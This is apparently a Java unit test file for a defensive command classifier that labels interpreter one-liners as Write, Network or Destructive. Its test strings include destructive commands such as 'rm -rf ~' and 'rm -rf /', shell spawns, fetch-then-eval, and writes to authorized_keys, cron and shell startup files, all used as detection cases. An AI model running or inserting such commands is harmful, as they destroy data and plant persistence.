package dev.cmdgate.core.classify;

import static org.assertj.core.api.Assertions.assertThat;

import dev.cmdgate.core.Classification;
import dev.cmdgate.core.CommandClass;
import dev.cmdgate.core.CommandClassifier;
import dev.cmdgate.core.rules.RuleSet;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * Interpreter one-liners are read with the [@lang] tables: literal commands are judged as commands,
 * commands built at run time are unverifiable code, network names raise to Network, and code that
 * does none of this is Write (it is code), never Read. Nothing is executed.
 */
class OneLinerTest {

    static final CommandClassifier C = Classifiers.standard(null);

    private static Classification argv(String... words) {
        return C.classifyArgv(List.of(words), Map.of());
    }

    @ParameterizedTest(name = "{0} {1} → {2}")
    @CsvSource(delimiterString = " | ", quoteCharacter = '§', value = {
        "python3 | print(1+1) | Write",
        "python3 | import os; os.system(\"ls\") | Write",
        "python3 | import os; os.system(\"rm -rf ~\") | Destructive",
        "python3 | import os; os.system('curl http://example.com/x') | Network",
        "python3 | import os; os.system(\"ls \" + d) | Destructive",
        "python3 | import os; os.system(f\"rm {d}\") | Destructive",
        "python3 | import os; os.system(cmd) | Destructive",
        "python3 | import subprocess; subprocess.run([\"rm\", \"-rf\", \"/\"]) | Destructive",
        "python3 | import subprocess; subprocess.run([\"ls\", \"-l\"], check=True) | Write",
        "python3 | import subprocess as sp; sp.call(\"rm -rf ~\", shell=True) | Destructive",
        "python3 | __import__('os').system('rm -rf ~') | Destructive",
        "python3 | __import__(m) | Destructive",
        "python3 | import os; os.execl('/bin/sh', 'sh', '-c', 'rm -rf ~') | Destructive",
        "python3 | import os; os.spawnlp(os.P_WAIT, 'rm', 'rm', '-rf', '/') | Destructive",
        "python3 | import pty; pty.spawn('/bin/sh') | Destructive",
        "python3 | import shutil; shutil.rmtree('build') | Destructive",
        "python3 | import os; os.remove('x.txt') | Write",
        "python3 | import os; os.remove(p) | Destructive",
        "python3 | import socket; socket.create_connection(('example.com', 80)) | Network",
        "python3 | import requests; print(requests.get('https://example.com').text) | Network",
        "python3 | exec(input()) | Destructive",
        "python3 | exec('import os; os.system(\"rm -rf ~\")') | Destructive",
        "python3 | exec('print(1)') | Write",
        "python3 | print(1)  # os.system('rm -rf ~') | Write",
        "python3 | import asyncio; asyncio.run(main()) | Write",
        "python3 | def system(x): pass | Write",
        "node | console.log(process.version) | Write",
        "node | require('child_process').execSync('rm -rf ~') | Destructive",
        "node | require('child_process').exec('ls', (e, o) => console.log(o)) | Write",
        "node | const cp = require('child_process'); cp.spawn('rm', ['-rf', '/']) | Destructive",
        "node | require('child_process').execSync(process.argv[1]) | Destructive",
        "node | require('child_process').execSync(`rm -rf ${d}`) | Destructive",
        "node | console.log(/a/.exec('abc')) | Write",
        "node | require('fs').rmSync('/tmp/x', {recursive: true}) | Destructive",
        "node | require('fs').unlinkSync('x.txt') | Write",
        "node | fetch('https://example.com').then(r => r.text()) | Network",
        "node | require('net').connect(1, 'example.com') | Network",
        "node | require(x) | Destructive",
        "node | fetch(u).then(r => r.text()).then(eval) | Destructive",
        "python3 | list(map(eval, lines)) | Destructive",
        "python3 | model.eval() | Write",
        "python3 | from builtins import eval | Write",
        "node | eval(s) | Destructive",
        "perl | print 1+1 | Write",
        "perl | system('rm -rf ~') | Destructive",
        "perl | system 'rm', '-rf', '/' | Destructive",
        "perl | system \"rm -rf $d\" | Destructive",
        "perl | print `id` | Write",
        "perl | print `rm -rf ~` | Destructive",
        "perl | print qx(rm -rf ~) | Destructive",
        "perl | exec '/bin/sh' | Destructive",
        "perl | open(F, '|rm -rf ~') | Destructive",
        "perl | open(my $f, '-|', 'rm', '-rf', '/') | Destructive",
        "perl | open(F, '<', 'x.txt') | Write",
        "perl | s/x/system('rm -rf ~')/e | Destructive",
        "perl | use IO::Socket::INET; IO::Socket::INET->new('example.com:80') | Network",
        "perl | eval { 1 } | Write",
        "ruby | puts 1+1 | Write",
        "ruby | system('rm -rf ~') | Destructive",
        "ruby | system 'ls' | Write",
        "ruby | puts `rm -rf ~` | Destructive",
        "ruby | puts %x(rm -rf ~) | Destructive",
        "ruby | IO.popen('rm -rf ~') | Destructive",
        "ruby | require 'fileutils'; FileUtils.rm_rf('/') | Destructive",
        "ruby | puts \"#{`rm -rf ~`}\" | Destructive",
        "python3 | print(f\"{__import__('os').system('rm -rf ~')}\") | Destructive",
        "node | console.log(`${require('child_process').execSync('rm -rf ~')}`) | Destructive",
        "ruby | require 'socket'; TCPSocket.new('example.com', 80) | Network",
        "php | echo 1+1; | Write",
        "php | system('rm -rf ~'); | Destructive",
        "php | echo shell_exec($c); | Destructive",
        "php | echo `rm -rf ~`; | Destructive",
        "php | fsockopen('example.com', 80); | Network",
        "lua | print(1+1) | Write",
        "lua | os.execute('rm -rf ~') | Destructive",
        "lua | os.execute'rm -rf ~' | Destructive",
        "lua | io.popen(c) | Destructive",
        "Rscript | print(1+1) | Write",
        "Rscript | system('rm -rf ~') | Destructive",
        "osascript | do shell script \"rm -rf ~\" | Destructive",
        "osascript | display dialog \"hi\" | Write",
        "expect | spawn rm -rf ~ | Destructive",
        "expect | spawn ssh example.com; interact | Network",
        "groovy | \"rm -rf /\".execute() | Destructive",
        "groovy | [\"ls\", \"-l\"].execute() | Write",
        "groovy | println 1 | Write",
        // files the code writes are checked like any written file
        "python3 | open('/home/alice/.bashrc', 'a').write('x') | Destructive",
        "python3 | open('notes.txt', 'w').write('x') | Write",
        "python3 | print(open('/etc/passwd').read()) | Write",
        "python3 | import urllib.request as r; r.urlretrieve('http://example.com/x', '/etc/cron.d/x') | Destructive",
        "node | require('fs').writeFileSync('/root/.ssh/authorized_keys', k) | Destructive",
        "node | require('fs').writeFileSync('out.json', '{}') | Write",
        "perl | open(my $f, '>', '/etc/rc.local') | Destructive",
        "perl | open(F, '>>/home/alice/.profile') | Destructive",
        "perl | open(F, '<', '/etc/hosts') | Write",
        "ruby | File.write('/etc/cron.d/job', 'x') | Destructive",
        "ruby | File.open('/home/alice/.zshrc', 'w') { |f| f.puts 'x' } | Destructive",
        "php | file_put_contents('/home/alice/.bash_profile', $c); | Destructive",
        "lua | local f = io.open('/home/alice/.zshenv', 'wb'); f:write('x') | Destructive",
        "lua | local f = io.open('/etc/hosts', 'r') | Write",
    })
    void oneLiner(String interpreter, String code, String expected) {
        String opt = switch (interpreter) {
            case "python3" -> "-c";
            case "php" -> "-r";
            case "expect" -> "-c";
            default -> "-e";
        };
        Classification c = argv(interpreter, opt, code.replace("\\n", "\n"));
        assertThat(c.commandClass()).as("%s %s %s → %s", interpreter, opt, code, c.findings())
                .isEqualTo(CommandClass.parse(expected));
    }

    @Test
    void theCommandACallRunsIsNamedInTheFindings() {
        Classification c = argv("python3", "-c", "import os; os.system('rm -rf ~')");
        assertThat(c.findings()).anySatisfy(f -> {
            assertThat(f.command()).isEqualTo("rm -rf ~");
            assertThat(f.location()).contains("os.system(…)");
            assertThat(f.rule()).startsWith("builtin.rules:");
        });
    }

    @Test
    void hereDocumentsInALanguageAreReadToo() {
        assertThat(C.classifyShell("python3 - <<'EOF'\nimport os\nos.system('rm -rf ~')\nEOF").commandClass())
                .isEqualTo(CommandClass.DESTRUCTIVE);
        assertThat(C.classifyShell("python3 - <<'EOF'\nprint(1)\nEOF").commandClass()).isEqualTo(CommandClass.WRITE);
        assertThat(C.classifyShell("python3 <<< 'import os; os.system(\"rm -rf ~\")'").commandClass())
                .isEqualTo(CommandClass.DESTRUCTIVE);
        // a here-document with expansions is only known at run time
        assertThat(C.classifyShell("python3 - <<EOF\nimport os; os.system('$CMD')\nEOF").commandClass())
                .isEqualTo(CommandClass.DESTRUCTIVE);
        // the shell the code starts reads nothing: the here-document was the input
        assertThat(C.classifyShell("python3 - <<'EOF'\nimport os; os.system('sh')\nEOF").commandClass())
                .isEqualTo(CommandClass.WRITE);
    }

    @Test
    void aShellStartedByTheCodeReadsTheInterpretersInput() {
        assertThat(argv("python3", "-c", "import os; os.system('sh')").commandClass()).isEqualTo(CommandClass.DESTRUCTIVE);
        assertThat(argv("python3", "-c", "import os; os.system('sh -c ls')").commandClass()).isEqualTo(CommandClass.WRITE);
    }

    @Test
    void manyCallsAndDeepEvalFailClosed() {
        String many = "import os\n" + "os.system('ls')\n".repeat(OneLiner.MAX_CALLS + 1);
        assertThat(argv("python3", "-c", many).commandClass()).isEqualTo(CommandClass.DESTRUCTIVE);
        String deep = "print(1)";
        for (int i = 0; i <= OneLiner.MAX_EVAL_DEPTH + 1; i++) {
            deep = "exec(" + pyQuote(deep) + ")";
        }
        assertThat(argv("python3", "-c", deep).commandClass()).isEqualTo(CommandClass.DESTRUCTIVE);
    }

    private static String pyQuote(String s) {
        return "'" + s.replace("\\", "\\\\").replace("'", "\\'") + "'";
    }

    @Test
    void languageTablesAreDataAUserFileCanExtend() {
        RuleSet r = RuleSet.withUserText("""
                [@lang python]
                call sh mytool.run_shell
                """, "team.rules");
        CommandClassifier u = RulesClassifier.of(r);
        assertThat(u.classifyArgv(List.of("python3", "-c", "import mytool; mytool.run_shell('rm -rf ~')"), Map.of())
                .commandClass()).isEqualTo(CommandClass.DESTRUCTIVE);
        assertThat(argv("python3", "-c", "import mytool; mytool.run_shell('rm -rf ~')").commandClass())
                .isEqualTo(CommandClass.WRITE);
        // the user's rows go on top of the built-in language, which is read before them
        assertThat(u.classifyArgv(List.of("python3", "-c", "import os; os.system('rm -rf ~')"), Map.of()).commandClass())
                .isEqualTo(CommandClass.DESTRUCTIVE);
    }
}
